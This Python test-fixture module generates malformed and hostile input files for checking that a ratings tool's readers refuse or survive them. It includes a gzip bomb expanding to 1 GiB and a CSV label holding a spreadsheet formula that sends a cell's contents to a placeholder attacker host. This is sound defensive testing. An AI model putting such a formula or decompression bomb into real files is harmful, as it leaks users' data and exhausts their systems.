"""The hostile-file corpus: files that have broken (or could break) a reader, generated on demand in a directory.

Nothing here is committed as a file: each entry is a writer that streams its content, so the 50 MB line and the
gzip bomb (1 GiB of zeros) never sit in memory. ``expect`` says what every file-reading subcommand must do with it:
``"refuse"`` (exit 2 with one line) or ``"any"`` (a result or a one-line refusal).

>>> sorted(e.name for e in ENTRIES if e.large)
['gzip_bomb', 'long_line_50mb']
"""

from __future__ import annotations

import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import BinaryIO, Literal

MIB = 2**20

Writer = Callable[[BinaryIO], None]


@dataclass(frozen=True, slots=True)
class Entry:
    """One hostile file: its name, file name, writer, what every file-reading subcommand must do, and its size."""

    name: str
    filename: str
    write: Writer
    expect: Literal["refuse", "any"]
    large: bool = False
    note: str = ""


def _text(text: str, encoding: str = "utf-8") -> Writer:
    def write(fh: BinaryIO) -> None:
        fh.write(text.encode(encoding))

    return write


def _raw(data: bytes) -> Writer:
    def write(fh: BinaryIO) -> None:
        fh.write(data)

    return write


def _deep_array(fh: BinaryIO) -> None:
    fh.write(b"[" * 100_000)


def _deep_object(fh: BinaryIO) -> None:
    depth = 50_000
    fh.write(b'{"item": 1, "rater": "a", "label": ' + b'{"a": ' * depth + b"1" + b"}" * depth + b"}\n")


def _many_labels(fh: BinaryIO) -> None:
    """10,000 items, two raters each, 10,000 distinct labels (item i gets labels L<i> and L<i+1>)."""
    fh.write(b"item,rater,label\n")
    n = 10_000
    fh.write("".join(f"{i},r1,L{i}\n{i},r2,L{(i + 1) % n}\n" for i in range(n)).encode())


def _long_line(fh: BinaryIO) -> None:
    """A ratings header, one good row, then one 50 MiB line of 25 million one-character fields."""
    fh.write(b"item,rater,label\n1,a,x\n")
    chunk = b"1," * (MIB // 2)
    for _ in range(50):
        fh.write(chunk)
    fh.write(b"1\n2,a,y\n")


def _gzip_bomb(fh: BinaryIO) -> None:
    """1 GiB of zero bytes as 64 gzip members of 16 MiB each (about 1 MB on disk; RFC 1952 allows members to be
    concatenated and gzip readers must read them all). One member is compressed once and written 64 times, so
    making the bomb costs a tenth of a second and never holds more than 16 MiB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # wbits 31: gzip container
    member = packer.compress(bytes(16 * MIB)) + packer.flush()
    for _ in range(64):
        fh.write(member)


_PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)

RATINGS_TEXT = "item,rater,label\n1,a,yes\n1,b,no\n2,a,no\n2,b,no\n3,a,yes\n3,b,yes\n"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'

ENTRIES: tuple[Entry, ...] = (
    Entry("deep_array_json", "deep.json", _deep_array, "refuse", note="[ x 100,000 (RecursionError in json)"),
    Entry("deep_object_jsonl", "deep.jsonl", _deep_object, "refuse", note="a 50,000-deep object in a row"),
    Entry("labels_10000", "ratings_10000_labels.csv", _many_labels, "refuse", note="10,000 distinct labels"),
    Entry("long_line_50mb", "long_line.csv", _long_line, "refuse", large=True, note="one 50 MiB line"),
    Entry("gzip_bomb", "bomb.csv.gz", _gzip_bomb, "refuse", large=True, note="1 GiB of zeros, gzipped"),
    Entry("png_as_csv", "image.csv", _raw(_PNG), "refuse", note="a PNG image renamed .csv"),
    Entry("utf16_no_bom", "utf16.csv", _text(RATINGS_TEXT, "utf-16-le"), "any", note="UTF-16 without a BOM"),
    Entry(
        "columns_1001",
        "wide.csv",
        _text(",".join(f"c{i}" for i in range(1001)) + "\n" + ",".join("1" * 1001) + "\n"),
        "refuse",
        note="1,001 columns",
    ),
    Entry("cr_only", "cr.csv", _text(RATINGS_TEXT.replace("\n", "\r")), "any", note="\\r-only line endings"),
    Entry("header_only", "header.csv", _text("item,rater,label\n"), "refuse", note="a header and no rows"),
    Entry("one_item", "one_item.csv", _text("item,rater,label\n1,a,yes\n1,b,no\n1,c,yes\n"), "refuse"),
    Entry("one_class", "one_class.csv", _text("item,rater,label\n1,a,yes\n1,b,yes\n2,a,yes\n2,b,yes\n"), "refuse"),
    Entry("all_nan", "all_nan.csv", _text("item,rater,label\nNaN,NaN,NaN\nNA,NA,NA\n,,\n"), "refuse"),
    Entry(
        "control_char_columns",
        "control.jsonl",
        _text('{"it\\nem": 1, "rat\\rer": "a", "label": "x"}\n{"it\\nem": 2, "rat\\rer": "b", "label": "y"}\n'),
        "refuse",
        note="column names holding a line feed and a carriage return",
    ),
    Entry(
        "formula_injection",
        "formula.csv",
        _text(f'item,rater,label\n1,a,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n1,b,no\n2,a,no\n2,b,yes\n'),
        "any",
        note="a =HYPERLINK(...) label",
    ),
)

BY_NAME: dict[str, Entry] = {e.name: e for e in ENTRIES}


def materialize(entry: Entry, directory: Path) -> Path:
    """Write ``entry`` into ``directory`` (once: an existing file is reused) and return its path."""
    path = directory / entry.filename
    if not path.exists():
        tmp = path.with_name(path.name + ".part")
        with tmp.open("wb") as fh:
            entry.write(fh)
        tmp.replace(path)
    return path
